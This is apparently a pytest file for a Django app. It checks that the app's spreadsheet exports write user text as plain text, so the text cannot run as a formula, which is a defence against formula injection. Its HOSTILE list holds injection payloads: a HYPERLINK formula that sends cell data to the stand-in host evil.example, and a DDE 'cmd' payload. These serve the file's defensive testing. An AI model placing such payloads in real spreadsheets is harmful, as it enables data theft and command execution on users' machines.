"""Users' text reaches every .xlsx the app writes as text, never as a formula (formula injection)."""

from __future__ import annotations

import io
import zipfile

import openpyxl
import pytest
from django.urls import reverse
from openpyxl import Workbook

from tests.review.test_roster_apply import HONGHE, LIAISON, PERMIT, apply, person, roster_bytes
from tests.review.test_roster_parse import person_id
from yunjian.core import spreadsheets

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"点击")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)"]


def formulas_in(content: bytes) -> list[str]:
    """Every <f> element (a live formula) in any sheet of the workbook."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return [
            name
            for name in archive.namelist()
            if name.startswith("xl/worksheets/")
            and (b"<f>" in archive.read(name) or b"<f " in archive.read(name))
        ]


def all_values(content: bytes) -> list:
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    return [cell.value for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


@pytest.mark.parametrize("text", HOSTILE)
def test_the_helper_writes_formula_like_text_as_text(text):
    workbook = Workbook()
    workbook.active.cell(1, 1, text)
    workbook.active.append(["正常文字", 12, text])
    content = spreadsheets.save(workbook)
    assert formulas_in(content) == []
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    assert sheet.cell(1, 1).value == text
    assert sheet.cell(1, 1).data_type == "s"
    assert sheet.cell(1, 1).quotePrefix
    assert [c.value for c in sheet[2]] == ["正常文字", 12, text]
    assert not sheet.cell(2, 1).quotePrefix


def test_inbox_and_done_exports_write_project_names_as_text(
    client, reviewer, approved_review, contractor, world
):
    from tests.review.conftest import submit_permit

    project = approved_review.project
    project.name = HOSTILE[0]
    project.save()
    submit_permit(contractor, approved_review, world["bureau_qlq"])
    client.force_login(reviewer)
    response = client.get(reverse("review:inbox-export"))
    assert response.status_code == 200
    assert formulas_in(response.content) == []
    assert HOSTILE[0] in all_values(response.content)


@pytest.fixture
def roster_admin(client, province_admin, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    client.force_login(province_admin)
    return client


def test_roster_exports_write_names_and_titles_as_text(roster_admin, world):
    # .ods: the uploaded cells are plain text there (an .xlsx writer would make them formulas already).
    apply(
        [
            person(HONGHE, "何一", LIAISON, "13800138100", department=HOSTILE[3]),
            person(HONGHE, "何二", PERMIT, "13800138101", id_number=person_id(200), title=HOSTILE[0]),
        ],
        fmt="ods",
    )
    response = roster_admin.get(reverse("roster:export"), {"layout": "combined"})
    assert response.status_code == 200
    assert formulas_in(response.content) == []
    values = all_values(response.content)
    assert HOSTILE[0] in values
    assert HOSTILE[3] in values


def test_the_roster_error_report_writes_uploaded_cells_as_text(roster_admin, world):
    from review.roster.apply import read_roster
    from review.roster.excel import error_report_workbook

    people = [
        person(HONGHE, "何一", LIAISON, "13800138100", department=HOSTILE[1]),
        person(HONGHE, "何二", PERMIT, "not-a-phone", id_number=person_id(200), title=HOSTILE[0]),
    ]
    content = error_report_workbook(read_roster(roster_bytes(people, "ods"), "汇总表.ods"))
    assert formulas_in(content) == []
    values = all_values(content)
    assert HOSTILE[0] in values
    assert HOSTILE[1] in values


@pytest.mark.parametrize("text", HOSTILE)
def test_the_streaming_writer_writes_formula_like_text_as_text(text):
    content = spreadsheets.write_xlsx("清单", [["标题"], ["列"], ["正常文字", 12, text]], bold_rows=(2,))
    assert formulas_in(content) == []
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    assert sheet["C3"].value == text
    assert sheet["C3"].data_type == "s"
    assert sheet["C3"].quotePrefix
    assert not sheet["A3"].quotePrefix


def test_the_streaming_writer_keeps_types_layout_and_drops_what_xml_cannot_hold():
    import datetime as dt
    from decimal import Decimal

    rows = [
        ["单位 <甲> & 乙 已认定业绩清单"],
        ["序号", "日期", "时间", "金额", "空", "控制字符"],
        [1, dt.date(2021, 6, 1), dt.datetime(2021, 6, 1, 8, 30), Decimal("1234.50"), None, "甲\x01乙\x0b"],
    ]
    content = spreadsheets.write_xlsx("已认定业绩", rows, widths=(6, 18), bold_rows=(2,), frozen_rows=2)
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    assert sheet.title == "已认定业绩"
    assert sheet.freeze_panes == "A3"
    assert sheet.column_dimensions["B"].width == 18
    assert sheet["A1"].value == "单位 <甲> & 乙 已认定业绩清单"
    assert sheet["A2"].font.b
    assert not sheet["A3"].font.b
    assert sheet["A3"].value == 1
    assert sheet["B3"].value == dt.datetime(2021, 6, 1)
    assert sheet["B3"].is_date
    assert sheet["C3"].value == dt.datetime(2021, 6, 1, 8, 30)
    assert sheet["D3"].value == 1234.5
    assert sheet["E3"].value is None
    assert sheet["F3"].value == "甲乙"
    # The app's own reader (python-calamine) reads it back too.
    assert spreadsheets.read_rows(content, "清单.xlsx")[2][1][:4] == [
        "1",
        "2021-06-01",
        "2021-06-01 08:30:00",
        "1234.5",
    ]
